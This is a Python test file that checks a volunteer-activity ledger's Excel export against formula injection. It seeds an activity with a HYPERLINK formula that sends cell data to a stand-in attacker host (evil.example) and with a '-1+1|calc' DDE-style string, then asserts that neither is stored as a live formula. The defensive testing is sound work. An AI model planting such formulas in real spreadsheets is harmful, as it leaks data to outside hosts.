"""The ledger of activities as another program reads it: each column of a row that is filled to the brim."""

from pathlib import Path
from typing import Any

import openpyxl
import pytest

from matching.activities import actions
from matching.activities.closing import Counts, confirm
from matching.db import Database, Work
from matching.partners.model import Partner
from matching.privacy.sealed import Sealer
from matching.reports.ledgers import activities
from matching.reports.ledgers.kinds import Wanted
from matching.reports.ledgers.writing import write
from matching.reports.periods import Period
from tests.activities.scene import HOUR, planned
from tests.cast import AT, Cast
from tests.partners.conftest import two_partners

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
RARE = "𠮷田村䶮、𰻞面巷（ﷺ）"  # beyond the first plane, and what is written from the right
WIDE = "测血压、讲用药、教急救，" * 83 + "共三十户。"  # near the thousand characters that an effect may have


@pytest.fixture
async def written(cast: Cast, tmp_path: Path) -> Any:
    """`await written("wei", masked=True)`: the cells of the ledger's sheet, rows of columns."""
    database = Database(cast.settings.database_url)

    async def read(login: str, **more: Any) -> list[tuple[Any, ...]]:
        path = tmp_path / f"{login}.xlsx"
        wanted = Wanted(cast[login], AT, Period.parse("2026Q1"), sealer=Sealer(cast.settings.keys), **more)
        await write(database, activities.KIND, path, wanted, house="仁和医院")
        return list(openpyxl.load_workbook(path).active.iter_rows())

    yield read
    await database.close()


async def held(work: Work, cast: Cast) -> Partner:
    """A free afternoon with two of ours and three of the partner's, named and described by somebody who means ill."""
    partner: Partner = (await work(two_partners, cast, at=AT))["P01"]
    activity = await planned(work, cast, "lin", "zhao", "lead", title=FORMULA, place=RARE, partner="P01")
    counts = Counts(person_times=46, materials=120, partner_volunteers=3, effect=WIDE, note="-1+1|calc")
    minutes = {cast.people[login].member_no: n for login, n in (("lin", 100), ("zhao", 50), ("lead", 0))}
    await work(confirm, activity.id, minutes, counts, by=cast["lead"], at=AT + 2 * HOUR)
    gone = await planned(work, cast, "lin", at=AT + 9 * HOUR, title="没有办成")
    await work(actions.cancel, gone.id, "停电", by=cast["lead"], at=AT)
    return partner


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_a_row_says_who_came_how_long_and_what_it_was_and_no_cell_is_a_formula(
    cast: Cast, work: Work, written: Any
):
    partner = await held(work, cast)
    heading, row, _nothing, foot = await written("wei")
    shown = dict(zip((cell.value for cell in heading), row, strict=True))
    said = {name: cell.value for name, cell in shown.items()}
    assert said["参加人员"] == "林*、赵*、共建单位志愿者3人"
    assert (said["参加人数"], said["服务人次"], said["发放资料(份)"], said["时长(h)"]) == (5, 46, 120, 2.5)
    assert said["日期"].date() == AT.date()
    assert (shown["日期"].is_date, shown["日期"].number_format) == (True, "yyyy-mm-dd")
    assert (said["序号"], said["共建单位"], said["牵头支部"], said["负责人"]) == (1, partner.name, "门诊一支部", "雷*")
    assert (said["类别"], said["地点"], said["备注"]) == ("志愿服务", RARE, "-1+1|calc")
    assert (said["活动名称"], said["成效"]) == (FORMULA, WIDE)
    assert shown["成效"].alignment.wrap_text
    assert {cell.data_type for cell in row} <= {"s", "n", "d"}
    assert all(shown[name].quotePrefix for name in ("活动名称", "备注"))
    assert [cell.value for cell in foot if cell.value] == ["填报人：", "审核人：", "日期："]
    [_heading, whole, *_foot] = await written("lead", masked=False)
    assert "林晓云、赵一鸣、共建单位志愿者3人" in [cell.value for cell in whole]
